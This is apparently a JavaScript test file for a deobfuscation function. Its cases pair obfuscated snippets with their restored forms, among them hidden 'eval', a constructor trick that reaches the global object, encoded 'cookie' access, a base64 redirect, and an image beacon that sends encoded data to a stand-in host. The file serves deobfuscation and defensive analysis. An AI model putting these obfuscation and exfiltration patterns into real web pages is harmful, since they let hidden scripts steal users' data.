"use strict";
const { huanyuan } = require("./huanyuan");

const yongli = [
  [String.raw`var a="\x65\x76\x61\x6c";`, `var a="eval";`],
  [`x['con'+'str'+'uctor']('return this')()`, `x.constructor('return this')()`],
  [`String.fromCharCode(104,116,116,112)`, `"http"`],
  [`String.fromCharCode(0x69-1,117-1,117-1,113-1)`, `"http"`],
  [`location.href=atob('aHR0cHM6Ly90b25namkuaW52YWxpZC9n')`, `location.href="https://tongji.invalid/g"`],
  [`'eikooc'.split('').reverse().join('')`, `"cookie"`],
  [`document[['write','cookie'][0x1]]`, `document["cookie"]`],
  [`new Image()['src']='https://'+'tongji.invalid/g.gif?d='+btoa(d)`, `new Image().src="https://tongji.invalid/g.gif?d="+btoa(d)`],
  [`const ok = ['a', 'b'];`, `const ok = ['a', 'b'];`],
];

let cuo = 0;
for (const [ru, chu] of yongli) {
  const { text } = huanyuan(ru);
  if (text !== chu) {
    cuo++;
    console.log(`入 ${ru}\n得 ${text}\n应 ${chu}\n`);
  }
}
console.log(cuo ? `${cuo} 条不符` : "全部相符");
process.exit(cuo ? 1 : 0);
